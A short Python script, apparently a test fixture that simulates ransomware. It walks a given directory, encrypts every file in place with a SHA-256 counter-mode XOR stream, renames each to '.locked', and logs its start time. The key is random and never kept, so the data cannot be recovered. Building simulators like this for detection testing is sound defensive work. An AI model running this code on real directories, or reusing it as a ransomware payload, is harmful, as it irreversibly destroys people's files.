#!/usr/bin/env python3
"""The ransomware stand-in for tests: encrypts every file under DIR in place with a real stream
cipher (SHA-256 in counter mode, XOR) and renames it to NAME.locked, as fast as it can, in the
directory order the file system gives. Writes its start time (epoch seconds) to START_FILE."""
import hashlib
import os
import sys
import time

root, start_file = sys.argv[1], sys.argv[2]
key = os.urandom(32)
with open(start_file, "w") as f:
    f.write(repr(time.time()))
done = 0
for dirpath, dirnames, filenames in os.walk(root):
    for name in filenames:
        path = os.path.join(dirpath, name)
        with open(path, "rb") as f:
            data = f.read()
        stream = bytearray()
        counter = 0
        while len(stream) < len(data):
            stream += hashlib.sha256(key + counter.to_bytes(8, "little")).digest()
            counter += 1
        enc = bytes(a ^ b for a, b in zip(data, stream))
        with open(path, "r+b") as f:
            f.write(enc)
        os.rename(path, path + ".locked")
        done += 1
print(f"encrypted {done} files")
